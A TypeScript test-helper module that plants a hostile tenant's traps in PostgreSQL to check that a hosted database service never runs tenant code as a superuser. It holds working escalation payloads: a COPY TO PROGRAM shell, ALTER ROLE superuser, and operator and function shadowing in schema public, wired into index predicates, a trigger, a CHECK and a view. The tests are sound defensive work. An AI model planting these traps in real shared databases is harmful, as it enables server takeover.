// A hostile tenant's traps, shared by the trap-laden database tests of both data-plane engines
// (tenant-code.test.ts on the shared engine, tenant-code-instances.test.ts on the instance
// engine): an IMMUTABLE function in a partial index predicate (the planner folds it while
// planning any query on the table), an operator in schema public that captures `name NOT LIKE
// ...`, a trigger, a CHECK and a view — each of which, run by a superuser, opens a shell as the
// postgres OS user (COPY TO PROGRAM, writing a file named for the trap into a marker directory)
// and makes the tenant a superuser.
import { execFile, execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import type { CapyClient, Job } from "@capydb/api";
import { expect } from "vitest";
import { psql } from "../harness/sql.js";

/** A directory the postgres OS user may write into: a file there is a trap that fired as a superuser. */
export function makeMarkerDir(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "capydb-trap-"));
  fs.chmodSync(dir, 0o777); // the postgres OS user writes here if a trap ever fires
  return dir;
}

export function sqlLiteral(s: string): string {
  return `'${s.replace(/'/g, "''")}'`;
}

/** public.pwn(tag): run by a superuser, a shell writes `<markerDir>/<tag>-<pid>` and the tenant becomes superuser. */
function pwnFunction(markerDir: string, role: string): string {
  return `
    create function public.pwn(tag text) returns void language plpgsql volatile as $f$
    begin
      if (select rolsuper from pg_catalog.pg_roles where rolname operator(pg_catalog.=) current_user) then
        execute pg_catalog.format('copy (select %L) to program %L', tag, 'cat > ${markerDir}/' || tag || '-' || pg_catalog.pg_backend_pid());
        begin
          execute pg_catalog.format('alter role %I superuser', ${sqlLiteral(role)});
        exception when others then null; -- a read-only transaction: the shell is enough
        end;
      end if;
    end $f$;`;
}

/** The traps, planted with nothing but the tenant's own connection string. */
export function plantTrapsInto(uri: string, role: string, markerDir: string): void {
  psql(uri, pwnFunction(markerDir, role));
  psql(
    uri,
    `
    create function public.trap_immutable(i int) returns boolean language plpgsql immutable as $f$
      begin perform public.pwn('index_predicate'); return true; end $f$;
    create function public.trap_nlike(name, name) returns boolean language plpgsql as $f$
      begin perform public.pwn('operator'); return not ($1::text operator(pg_catalog.~~) $2::text); end $f$;
    create operator public.!~~ (leftarg = name, rightarg = name, function = public.trap_nlike);
    create function public.trap_row() returns trigger language plpgsql as $f$
      begin perform public.pwn('trigger'); return new; end $f$;
    create table public.accounts (id int primary key, email text not null, constraint trap_check check (public.trap_immutable(id)));
    insert into public.accounts select g, 'user' || g || '@example.com' from generate_series(1, 40) g;
    create index accounts_trap on public.accounts (id) where public.trap_immutable(1);
    create trigger accounts_trap before insert or update on public.accounts for each row execute function public.trap_row();
    create view public.accounts_view as select id, email from public.accounts where public.trap_immutable(id);
  `,
  );
}

/**
 * More operators and functions in schema public, each an exact match for arguments that only
 * reach pg_catalog's own through a cast (so the tenant's wins over pg_catalog's, searched first,
 * in any session whose search_path holds public): `name LIKE ...`, `name ~ ...`, `oid = 123`,
 * `oid = bigint`, `quote_ident(name)`, `lower(name)`, `format(text, name)`. Each returns what
 * pg_catalog's would (the tenant's own queries go on working) after calling public.pwn. Needs
 * plantTrapsInto first (public.pwn).
 */
export function plantCatalogCaptureTraps(uri: string): void {
  psql(
    uri,
    `
    create function public.trap_like(name, name) returns boolean language plpgsql as $f$
      begin perform public.pwn('operator_like'); return $1::text operator(pg_catalog.~~) $2::text; end $f$;
    create operator public.~~ (leftarg = name, rightarg = name, function = public.trap_like);
    create function public.trap_regex(name, name) returns boolean language plpgsql as $f$
      begin perform public.pwn('operator_regex'); return $1::text operator(pg_catalog.~) $2::text; end $f$;
    create operator public.~ (leftarg = name, rightarg = name, function = public.trap_regex);
    create function public.trap_oid_int(oid, integer) returns boolean language plpgsql as $f$
      begin perform public.pwn('operator_oid_int'); return $1 operator(pg_catalog.=) $2::oid; end $f$;
    create operator public.= (leftarg = oid, rightarg = integer, function = public.trap_oid_int);
    create function public.trap_oid_bigint(oid, bigint) returns boolean language plpgsql as $f$
      begin perform public.pwn('operator_oid_bigint'); return $1 operator(pg_catalog.=) $2::oid; end $f$;
    create operator public.= (leftarg = oid, rightarg = bigint, function = public.trap_oid_bigint);
    create function public.quote_ident(name) returns text language plpgsql as $f$
      begin perform public.pwn('function_quote_ident'); return pg_catalog.quote_ident($1::text); end $f$;
    create function public.lower(name) returns text language plpgsql as $f$
      begin perform public.pwn('function_lower'); return pg_catalog.lower($1::text); end $f$;
    create function public.format(text, name) returns text language plpgsql as $f$
      begin perform public.pwn('function_format'); return pg_catalog.format($1, $2); end $f$;
  `,
  );
}

/** Each file in the marker directory is a shell the postgres OS user ran for a trap (named for the trap). */
export function expectNoTrapFiredIn(markerDir: string, when: string): void {
  expect(fs.readdirSync(markerDir), `traps that ran as a superuser ${when}`).toEqual([]);
}

/** Every login of `superuser` into a database whose name starts with `databasePrefix`, in PostgreSQL log text (log_connections). */
export function superuserLoginsIn(logText: string, superuser: string, databasePrefix: string): Array<{ database: string; app: string }> {
  const found: Array<{ database: string; app: string }> = [];
  for (const m of logText.matchAll(/connection authorized: user=(\S+) database=(\S+)(?: application_name=(\S+))?/g)) {
    if (m[1] !== superuser) continue;
    if (!m[2].startsWith(databasePrefix)) continue;
    found.push({ database: m[2], app: m[3] ?? "" });
  }
  return found;
}

/**
 * Dumps the (trapped) database at `uri` with pg_dump, uploads the dump through a signed upload
 * URL and imports it over the project's data (`replace`); answers the import's job for the
 * caller to wait on.
 */
export async function importDumpOf(org: CapyClient, projectId: string, uri: string): Promise<Job> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "capydb-trap-dump-"));
  try {
    const dump = path.join(dir, "trapped.dump");
    execFileSync("pg_dump", ["--format=custom", `--file=${dump}`, uri]);
    const { upload } = await org.createUpload(projectId);
    const put = await promisify(execFile)(
      "curl",
      ["-sS", "-w", "\n%{http_code}", "-X", "PUT", "--data-binary", `@${dump}`, "-H", "content-type: application/octet-stream", upload.upload_url],
      { encoding: "utf8" },
    );
    expect(put.stdout).toMatch(/20[01]$/);
    return (await org.createImport(projectId, { object_key: upload.object_key, replace: true })).job;
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}
